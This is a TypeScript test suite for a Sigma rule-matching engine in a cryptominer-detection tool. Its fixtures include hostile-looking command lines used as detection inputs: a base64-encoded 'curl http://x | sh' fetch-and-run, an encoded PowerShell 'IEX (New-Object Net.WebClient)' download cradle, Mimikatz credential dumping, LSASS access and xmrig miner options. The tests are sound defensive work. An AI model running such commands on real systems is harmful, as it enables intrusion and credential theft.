import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'yaml';
import type { CoalEvent } from '../../model/event.js';
import type { Signal } from '../../model/signal.js';
import { evtxJson } from '../../sources/evtx-json.js';
import { createClassifier } from '../index.js';
import { matchRules, type RuleMatch, ruleSignals } from '../rules.js';
import { testIntel } from '../test-events.js';
import { type CompileContext, CompileError, compileSelection, FieldCache } from './compile.js';
import { ConditionError, parseCondition } from './condition.js';
import { inferSignal, loadRules } from './index.js';
import { parseLogsources, resolveLogsource } from './logsources.js';
import { compileRuleRegex } from './regex.js';

const map = { CommandLine: 'process.command_line', DestinationIp: 'destination.ip', Image: 'process.executable' };

function ctx(placeholders: Record<string, string[]> = {}): CompileContext {
  return { map, placeholders, unmapped: new Set() };
}

function exec(cmd: string, extra: Partial<CoalEvent> = {}): CoalEvent {
  return {
    '@timestamp': '2025-01-01T00:00:00.000Z',
    event: { kind: 'event', category: [], action: 'exec', dataset: 't' },
    process: { command_line: cmd, executable: '/usr/bin/x' },
    original: { Extra: 'Value' },
    coalmine: { ts: 0, format: 't', ref: { file: 'f', line: 1 } },
    ...extra,
  };
}

/** A Windows record as win-event.ts keeps it: System fields and EventData in `original`. */
function winRecord(eventId: number, data: Record<string, string>, provider = 'Microsoft-Windows-Sysmon'): CoalEvent {
  return {
    '@timestamp': '2025-01-01T00:00:00.000Z',
    event: { kind: 'event', category: [], action: eventId === 1 ? 'exec' : 'log-record', dataset: 't' },
    host: { name: 'w', os: { platform: 'windows' } },
    original: {
      Provider: provider,
      Channel: provider === 'Microsoft-Windows-Sysmon' ? 'Microsoft-Windows-Sysmon/Operational' : 'Security',
      EventID: eventId,
      Computer: 'w',
      UserID: 'S-1-5-18',
      EventData: data,
    },
    coalmine: { ts: 0, format: 'evtx', ref: { file: 'f', record: '1' } },
  };
}

function matches(selection: unknown, event: CoalEvent, c = ctx()): boolean {
  return compileSelection('s', selection, c)(event, new FieldCache());
}

test('contains, startswith, endswith and equality are case-insensitive by default; cased is not', () => {
  assert.ok(matches({ 'CommandLine|contains': 'XMRIG' }, exec('/tmp/xmrig -B')));
  assert.ok(matches({ 'CommandLine|startswith': '/TMP' }, exec('/tmp/xmrig -B')));
  assert.ok(matches({ 'CommandLine|endswith': '-b' }, exec('/tmp/xmrig -B')));
  assert.ok(matches({ CommandLine: '/TMP/XMRIG -b' }, exec('/tmp/xmrig -B')));
  assert.ok(!matches({ CommandLine: '/tmp/xmrig' }, exec('/tmp/xmrig -B')));
  assert.ok(!matches({ 'CommandLine|contains|cased': 'XMRIG' }, exec('/tmp/xmrig')));
  assert.ok(matches({ 'CommandLine|contains|cased': 'xmrig' }, exec('/tmp/xmrig')));
});

test('a list is OR, |all makes it AND', () => {
  assert.ok(matches({ 'CommandLine|contains': ['nope', 'xmrig'] }, exec('xmrig')));
  assert.ok(!matches({ 'CommandLine|contains|all': ['-o', '-u'] }, exec('xmrig -o pool')));
  assert.ok(matches({ 'CommandLine|contains|all': ['-o', '-u'] }, exec('xmrig -o pool -u w')));
});

test('wildcards: * and ? anywhere, also inside contains/startswith/endswith; \\* \\? \\\\ escape them', () => {
  assert.ok(matches({ Image: '/usr/*/x' }, exec('')));
  assert.ok(matches({ Image: '/usr/bi?/x' }, exec('')));
  assert.ok(!matches({ Image: '/usr/b?/x' }, exec('')));
  assert.ok(matches({ 'CommandLine|contains': 'a*c' }, exec('xx abbbc yy')));
  assert.ok(matches({ 'CommandLine|endswith': '.ex?' }, exec('run C:\\t\\a.exe')));
  assert.ok(matches({ CommandLine: 'what\\?' }, exec('what?')));
  assert.ok(!matches({ CommandLine: 'what\\?' }, exec('whatx')));
  assert.ok(matches({ CommandLine: 'a\\*b' }, exec('a*b')));
  assert.ok(!matches({ CommandLine: 'a\\*b' }, exec('axxb')));
  // a backslash before anything else is literal (Windows paths); \\ is one backslash
  assert.ok(matches({ 'CommandLine|contains': 'C:\\Windows\\' }, exec('C:\\Windows\\x')));
  assert.ok(matches({ CommandLine: '\\\\\\\\srv' }, exec('\\\\srv')));
});

test('null and exists: a field that is absent matches null and exists: false', () => {
  assert.ok(matches({ 'DestinationIp|exists': false }, exec('')));
  assert.ok(!matches({ 'DestinationIp|exists': true }, exec('')));
  assert.ok(matches({ 'DestinationIp|exists': true }, exec('', { destination: { ip: '1.2.3.4' } })));
  assert.ok(matches({ DestinationIp: null }, exec('')));
  assert.ok(!matches({ DestinationIp: null }, exec('', { destination: { ip: '1.2.3.4' } })));
});

test('re: case-sensitive by default, |i |m |s flags, (?i) prefix, hostile shapes run on the linear fallback', () => {
  assert.ok(matches({ 'CommandLine|re': 'rx/[0-9]' }, exec('-a rx/0')));
  assert.ok(!matches({ 'CommandLine|re': 'RX/[0-9]' }, exec('-a rx/0')));
  assert.ok(matches({ 'CommandLine|re|i': 'RX/[0-9]' }, exec('-a rx/0')));
  assert.ok(matches({ 'CommandLine|re': '(?i)RX/[0-9]' }, exec('-a rx/0')));
  assert.ok(matches({ 'CommandLine|re|m': '^b$' }, exec('a\nb\nc')));
  assert.ok(!matches({ 'CommandLine|re': '^b$' }, exec('a\nb\nc')));
  assert.ok(matches({ 'CommandLine|re|s': 'a.b' }, exec('a\nb')));
  assert.ok(!matches({ 'CommandLine|re': 'a.b' }, exec('a\nb')));
  // counted repetition over 16 (refused by the linear engine) is kept when no group is repeated around it
  assert.ok(matches({ 'CommandLine|re': '^.{20,}$' }, exec('x'.repeat(30))));
  assert.ok(matches({ 'CommandLine|re': '(?:0[0-9]{1,11}\\.){3}' }, exec('http://0177.00.00.01')));
  // catastrophic backtracking shapes finish quickly on the linear engine
  const started = Date.now();
  assert.ok(!matches({ 'CommandLine|re': '(a+)+$' }, exec(`${'a'.repeat(3000)}!`)));
  assert.ok(!matches({ 'CommandLine|re|i': '(a|aa)+$' }, exec(`${'a'.repeat(3000)}!`)));
  assert.ok(Date.now() - started < 2000, `took ${Date.now() - started} ms`);
});

test('regexes the engine cannot bound are unsupported, with the reason', () => {
  for (const [pattern, why] of [
    ['(a)\\1', /backreference/],
    ['(?P<x>a)(?P=x)', /backreference/],
    ['a(?=b)', /lookaround/],
    ['(?<!a)b', /lookaround/],
    ['a(?i)b', /inline flags/],
    ['(a+){1,20}x', /quantified group/],
  ] as const) {
    const r = compileRuleRegex(pattern, {});
    assert.ok('unsupported' in r && why.test(r.unsupported), `${pattern}: ${JSON.stringify(r)}`);
    assert.throws(
      () => compileSelection('s', { 'CommandLine|re': pattern }, ctx()),
      (e: unknown) => e instanceof CompileError && e.unsupported && e.code === 'RULE_UNSUPPORTED_REGEX',
    );
  }
  const ok = compileRuleRegex('(?P<n>[a-f]{2,4})\\Z', { i: true });
  assert.ok('regex' in ok && ok.regex.test('xABc'));
});

test('cidr: IPv4 and IPv6 ranges', () => {
  const at = (ip: string) => exec('', { destination: { ip } });
  assert.ok(matches({ 'DestinationIp|cidr': '10.0.0.0/8' }, at('10.2.3.4')));
  assert.ok(!matches({ 'DestinationIp|cidr': '10.0.0.0/8' }, at('11.2.3.4')));
  assert.ok(matches({ 'DestinationIp|cidr': ['192.168.0.0/16', 'fe80::/10'] }, at('fe80::1')));
  assert.ok(!matches({ 'DestinationIp|cidr': 'fe80::/10' }, at('2001:db8::1')));
  assert.ok(matches({ 'DestinationIp|cidr': '::1/128' }, at('::1')));
  assert.throws(() => compileSelection('s', { 'DestinationIp|cidr': 'nope' }, ctx()), CompileError);
});

test('lt, lte, gt, gte compare numbers; a non-number never matches', () => {
  const e = winRecord(10, { GrantedAccess: '12', Text: 'abc' });
  assert.ok(matches({ 'GrantedAccess|lt': 13 }, e));
  assert.ok(!matches({ 'GrantedAccess|lt': 12 }, e));
  assert.ok(matches({ 'GrantedAccess|lte': 12 }, e));
  assert.ok(matches({ 'GrantedAccess|gt': 11 }, e));
  assert.ok(matches({ 'GrantedAccess|gte': 12 }, e));
  assert.ok(!matches({ 'Text|gte': 0 }, e));
});

test('base64, base64offset, utf16le/utf16be/utf16/wide encode the value before comparing', () => {
  const b64 = (b: Buffer) => b.toString('base64');
  const text = 'echo; curl http://x | sh';
  assert.ok(matches({ 'CommandLine|base64offset|contains': 'curl http' }, exec(`sh -c "${b64(Buffer.from(text))}"`)));
  assert.ok(matches({ 'CommandLine|base64': 'hello' }, exec(b64(Buffer.from('hello')))));
  assert.ok(!matches({ 'CommandLine|base64': 'hello' }, exec(`x ${b64(Buffer.from('hello'))}`)));
  const ps = Buffer.from('IEX (New-Object Net.WebClient)', 'utf16le');
  assert.ok(matches({ 'CommandLine|wide|base64offset|contains': 'New-Object' }, exec(`powershell -enc ${b64(ps)}`)));
  assert.ok(matches({ 'CommandLine|utf16le|base64offset|contains': 'New-Object' }, exec(`-e ${b64(ps)}`)));
  const be = Buffer.from('Invoke', 'utf16le').swap16();
  assert.ok(matches({ 'CommandLine|utf16be|base64|contains': 'Invoke' }, exec(b64(be))));
  const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('ab', 'utf16le')]);
  assert.ok(matches({ 'CommandLine|utf16|base64': 'ab' }, exec(b64(bom))));
});

test('windash matches every dash Windows accepts at the start of an option, each position alone', () => {
  assert.ok(matches({ 'CommandLine|windash|contains': '-enc ' }, exec('powershell /enc AAAA')));
  assert.ok(matches({ 'CommandLine|windash|contains': '-enc ' }, exec('powershell \u2013enc AAAA')));
  assert.ok(matches({ 'CommandLine|windash|contains': ' -w hidden -nop' }, exec('x /w hidden \u2014nop')));
  assert.ok(!matches({ 'CommandLine|windash|contains': '-enc ' }, exec('powershell +enc AAAA')));
});

test('fieldref compares a field with another field of the same event', () => {
  const same = winRecord(1, { Image: 'C:\\a\\x.exe', ParentImage: 'C:\\A\\X.exe' });
  const other = winRecord(1, { Image: 'C:\\a\\x.exe', ParentImage: 'C:\\b\\y.exe' });
  assert.ok(matches({ 'Image|fieldref': 'ParentImage' }, same));
  assert.ok(!matches({ 'Image|fieldref': 'ParentImage' }, other));
  assert.ok(matches({ 'Image|fieldref|endswith': 'ParentImage' }, same));
});

test('expand: placeholders take the configured values; without one the rule is unsupported', () => {
  const e = winRecord(4624, { TargetUserName: 'admin7' }, 'Microsoft-Windows-Security-Auditing');
  assert.ok(matches({ 'TargetUserName|expand': '%admins%' }, e, ctx({ admins: ['root', 'admin7'] })));
  assert.ok(!matches({ 'TargetUserName|expand': '%admins%' }, e, ctx({ admins: ['root'] })));
  assert.throws(
    () => compileSelection('s', { 'TargetUserName|expand': '%admins%' }, ctx()),
    (err: unknown) => err instanceof CompileError && err.unsupported && err.code === 'RULE_PLACEHOLDER',
  );
});

test('keywords search every field of the record; selections may be a list of maps (OR)', () => {
  const e = winRecord(4104, { ScriptBlockText: 'Invoke-Mimikatz -DumpCreds' }, 'Microsoft-Windows-PowerShell');
  assert.ok(matches(['mimikatz', 'nope'], e));
  assert.ok(!matches(['rubeus'], e));
  assert.ok(matches('DumpCreds', e));
  assert.ok(matches([{ ScriptBlockText: 'x' }, { 'ScriptBlockText|contains': 'invoke-' }], e));
  assert.ok(!matches([{ ScriptBlockText: 'x' }, { 'ScriptBlockText|contains': 'rubeus' }], e));
});

test('a Windows record is read by its own field names first: EventData, then System (EventID, Channel, Provider_Name)', () => {
  const e = winRecord(1, { Image: 'C:\\Temp\\xmrig.exe', CommandLine: 'xmrig -o pool' });
  e.process = { executable: 'C:\\other.exe' };
  assert.ok(matches({ 'Image|endswith': '\\xmrig.exe' }, e));
  assert.ok(matches({ EventID: 1, Channel: 'microsoft-windows-sysmon/operational' }, e));
  assert.ok(matches({ Provider_Name: 'Microsoft-Windows-Sysmon', Security_UserID: 'S-1-5-18' }, e));
  // EventData names with spaces (Defender's `Threat Name`) answer Sigma's names without them
  const defender = winRecord(
    1119,
    { 'Threat Name': 'Virus:DOS/EICAR_Test_File' },
    'Microsoft-Windows-Windows Defender',
  );
  assert.ok(matches({ 'ThreatName|endswith': 'EICAR_Test_File' }, defender));
  // record after record, each answers with its own spaced names (the names of the record before are not kept for it)
  const other = winRecord(1119, { 'Threat  Name': 'Trojan:Win32/CoinMiner' }, 'Microsoft-Windows-Windows Defender');
  const plain = winRecord(1119, { ThreatName: 'Trojan:Win32/Plain' }, 'Microsoft-Windows-Windows Defender');
  for (const [event, name] of [
    [other, 'CoinMiner'],
    [plain, 'Plain'],
    [defender, 'EICAR_Test_File'],
    [other, 'CoinMiner'],
  ] as const) {
    assert.ok(matches({ 'ThreatName|endswith': name }, event), name);
    assert.ok(!matches({ 'ThreatName|endswith': 'Nothing' }, event), name);
  }
  // a field the record lacks falls back to the ECS mapping (Security 4688 has NewProcessName, not Image)
  const sec = winRecord(4688, { NewProcessName: 'C:\\x\\miner.exe' }, 'Microsoft-Windows-Security-Auditing');
  sec.process = { executable: 'C:\\x\\miner.exe' };
  assert.ok(matches({ 'Image|endswith': '\\miner.exe' }, sec));
});

test('an auditd event is read by the fields of its records, quoted and hex values decoded', () => {
  const e = exec('', {
    original: {
      SYSCALL: { syscall: '59', a1: '55b7e0c1a4b0', exe: '"/dev/shm/.x/kd"' },
      EXECVE: { argc: '3', a0: '"/dev/shm/.x/kd"', a1: Buffer.from('--cpu-priority 4').toString('hex').toUpperCase() },
      PATH: [{ name: '"/dev/shm/.x/kd"' }, { name: '(null)' }],
    },
    coalmine: { ts: 0, format: 'auditd', ref: { file: 'audit.log', line: 1 } },
  });
  assert.ok(matches({ type: 'EXECVE', 'a1|startswith': '--cpu-priority' }, e));
  assert.ok(matches({ type: 'SYSCALL', exe: '/dev/shm/.x/kd', name: '/dev/shm/.x/kd' }, e));
  assert.ok(!matches({ type: 'PROCTITLE' }, e));
  // the same field of another format is not decoded
  assert.ok(!matches({ 'a1|startswith': '--cpu' }, { ...e, coalmine: { ...e.coalmine, format: 'ndjson' } }));
});

test('unmapped fields read the source record and are collected', () => {
  const c = ctx();
  assert.ok(compileSelection('s', { Extra: 'value' }, c)(exec(''), new FieldCache()));
  assert.deepEqual([...c.unmapped], ['Extra']);
});

test('conditions parse with not > and > or precedence, parentheses, and "1 of" / "all of"', () => {
  assert.deepEqual(parseCondition('a or b and not c'), {
    type: 'or',
    nodes: [
      { type: 'ref', name: 'a' },
      {
        type: 'and',
        nodes: [
          { type: 'ref', name: 'b' },
          { type: 'not', node: { type: 'ref', name: 'c' } },
        ],
      },
    ],
  });
  assert.deepEqual(parseCondition('1 of sel_* and not all of them'), {
    type: 'and',
    nodes: [
      { type: 'of', quantifier: 'one', pattern: 'sel_*' },
      { type: 'not', node: { type: 'of', quantifier: 'all', pattern: 'them' } },
    ],
  });
  assert.throws(() => parseCondition('a and ('), ConditionError);
  assert.throws(() => parseCondition('a b'), ConditionError);
});

test('condition forms evaluate as Sigma says, over a whole rule', async () => {
  const set = await loadRules(['test/fixtures/sigma/conditions.yml']);
  assert.deepEqual(set.errors, []);
  const ids = (cmd: string) => {
    const out: RuleMatch[] = [];
    matchRules(set, exec(cmd, { host: { os: { platform: 'linux' } } }), out);
    return out.map((m) => m.id).sort();
  };
  assert.deepEqual(ids('alpha'), ['not-beta', 'one-of-sel', 'one-of-them', 'or-paren']);
  assert.deepEqual(ids('alpha beta'), ['all-of-sel', 'one-of-sel', 'one-of-them', 'or-paren']);
  assert.deepEqual(ids('gamma'), ['not-beta', 'or-paren']);
  assert.deepEqual(ids('alpha beta _hidden'), ['all-of-sel', 'one-of-sel', 'or-paren']);
});

test('the logsource table: every entry is well formed; Windows categories resolve to their event ids', () => {
  const parsed = parseLogsources(parse(readFileSync('rules/sigma/logsources.yml', 'utf8')));
  assert.deepEqual(parsed.problems, []);
  const keys = (ls: Record<string, string>) => resolveLogsource(ls, parsed.entries)?.keys.sort();
  assert.deepEqual(keys({ product: 'windows', category: 'process_creation' }), ['a:exec', 'w:1', 'w:4688']);
  assert.deepEqual(keys({ product: 'windows', category: 'image_load' }), ['w:7']);
  assert.deepEqual(keys({ product: 'windows', category: 'pipe_created' }), ['w:17', 'w:18']);
  assert.deepEqual(keys({ product: 'windows', category: 'ps_script' }), ['w:4104']);
  assert.deepEqual(keys({ product: 'windows', service: 'security' }), ['w:*']);
  assert.deepEqual(keys({ product: 'linux', category: 'process_creation' }), ['a:exec', 'a:process-seen', 'w:1']);
  assert.deepEqual(keys({ product: 'zeek', service: 'dns' }), ['a:dns-query']);
  assert.equal(keys({ product: 'qualys' }), undefined);
});

test('a rule needs no coalmine field: T1496 or mining family → evidence by logsource and level; others are context', () => {
  const t1496 = ['attack.impact', 'attack.t1496'];
  assert.deepEqual(inferSignal(t1496, 'x', 'high', 'stable', { category: 'process_creation' }), {
    kind: 'miner-process',
    class: 'process',
    strength: 'strong',
  });
  assert.deepEqual(
    inferSignal([], 'Monero Crypto Coin Mining Pool Lookup', 'high', 'stable', { category: 'dns_query' }),
    {
      kind: 'pool-contact',
      class: 'network',
      strength: 'strong',
    },
  );
  assert.equal(inferSignal(t1496, 'x', 'high', 'experimental', { category: 'network_connection' })?.strength, 'medium');
  assert.equal(inferSignal(t1496, 'x', 'medium', 'test', { category: 'process_creation' })?.strength, 'weak');
  assert.equal(inferSignal(t1496, 'x', 'low', 'stable', { category: 'registry_set' })?.kind, 'persistence');
  assert.equal(inferSignal(['attack.credential-access'], 'Mimikatz', 'high', 'stable', {}), undefined);
  // a listed family (rules/sigma/mining-families.yml) with neither tag nor telling title
  assert.deepEqual(
    inferSignal([], 'Vulnerable WinRing0 Driver Load', 'high', 'test', { category: 'driver_load' }, true),
    {
      kind: 'miner-tuning',
      class: 'process',
      strength: 'medium',
    },
  );
  assert.equal(
    inferSignal([], 'Vulnerable WinRing0 Driver Load', 'high', 'test', { category: 'driver_load' }),
    undefined,
  );
});

test('the loader collects every error with file:line and still loads the good rules', async () => {
  const set = await loadRules(['test/fixtures/sigma/bad']);
  assert.deepEqual(
    set.rules.map((r) => [r.id, r.signal?.kind]),
    [
      ['good-one', 'miner-process'],
      ['no-signal', undefined],
      ['odd-logsource', 'miner-process'],
    ],
  );
  assert.deepEqual(
    set.errors.map((e) => [e.line, e.code]),
    [
      [10, 'RULE_UNKNOWN_MODIFIER'],
      [19, 'RULE_BAD_CONDITION'],
      [45, 'RULE_DUPLICATE_ID'],
    ],
  );
  assert.deepEqual(
    set.unsupported.map((e) => [e.line, e.code]),
    [[28, 'RULE_UNSUPPORTED_REGEX']],
  );
  // the correlation (known by its name) loads and silences the rule it counts
  assert.deepEqual(
    set.correlations.map((c) => [c.def.id, c.inputs.map((i) => i.id)]),
    [['many-failures', ['good-one']]],
  );
  assert.equal(set.rules.find((r) => r.id === 'good-one')?.silent, true);
  assert.deepEqual(
    set.warnings.map((w) => [w.line, w.code]),
    [[72, 'RULE_UNKNOWN_LOGSOURCE']],
  );
  for (const e of set.errors) assert.equal(e.file, 'test/fixtures/sigma/bad/rules.yml');
});

test('matchRules lists every match (id, level, title); only the T1496 rule raises a signal', async () => {
  const set = await loadRules(['test/fixtures/sigma-native/rules']);
  assert.deepEqual([set.errors, set.unsupported, set.warnings], [[], [], []]);
  const text = readFileSync('test/fixtures/sigma-native/records.jsonl');
  const input = {
    name: 'records.jsonl',
    head: text,
    async *open() {
      yield text;
    },
  };
  const seen: string[] = [];
  const signals: Signal[] = [];
  const context = { maxLineBytes: 1 << 20, maxPendingRecords: 100, keepWindowsRecord: () => true };
  for await (const batch of evtxJson.read(input, context))
    for (const e of batch.events) {
      const m: RuleMatch[] = [];
      matchRules(set, e, m);
      for (const x of m)
        seen.push(`${(e.original as { EventID: number }).EventID} ${x.id.slice(-1)} ${x.level} ${x.title}`);
      ruleSignals(set, e, signals);
    }
  assert.deepEqual(seen, [
    '4624 3 medium Network logon from a Kali workstation (fixture)',
    '10 2 high LSASS access with read rights (fixture)',
    '1 1 high Miner options on a renamed binary (fixture)',
  ]);
  assert.deepEqual(
    signals.map((x) => [x.by, x.kind, x.strength]),
    [['rule:7f1c0a2e-0000-4000-8000-000000000001', 'miner-process', 'strong']],
  );
});

test('the classifier hands every rule match of a logged event to onRuleMatch, context rules included', async () => {
  const set = await loadRules(['test/fixtures/sigma-native/rules']);
  const got: string[] = [];
  const classify = createClassifier(testIntel(), set, (event, m) =>
    got.push(`${event.event.action}: ${m.map((x) => `${x.level} ${x.title}`).join(', ')}`),
  );
  const access = winRecord(10, { TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010' });
  const out: Signal[] = [];
  classify(access, out);
  assert.deepEqual(got, ['log-record: high LSASS access with read rights (fixture)']);
  assert.deepEqual(
    out.filter((x) => x.by.startsWith('rule:')),
    [],
  );
});

test('the generic dns category reads `query` from any sensor through the pipeline (Suricata has no such field)', async () => {
  const set = await loadRules(['test/fixtures/sigma/dns-query.yml']);
  const lookup = (format: string, original: Record<string, unknown>): CoalEvent => ({
    '@timestamp': '2025-01-01T00:00:00.000Z',
    event: { kind: 'event', category: ['network'], action: 'dns-query', dataset: format },
    dns: { question: { name: 'pool.supportxmr.com' } },
    original,
    coalmine: { ts: 0, format, ref: { file: 'f', line: 1 } },
  });
  for (const e of [
    lookup('suricata', { dns: { rrname: 'pool.supportxmr.com' } }),
    lookup('zeek', { query: 'pool.supportxmr.com' }),
  ]) {
    const signals: Signal[] = [];
    ruleSignals(set, e, signals);
    assert.deepEqual(
      signals.map((x) => [x.kind, x.strength]),
      [['pool-contact', 'strong']],
      e.coalmine.format,
    );
  }
});
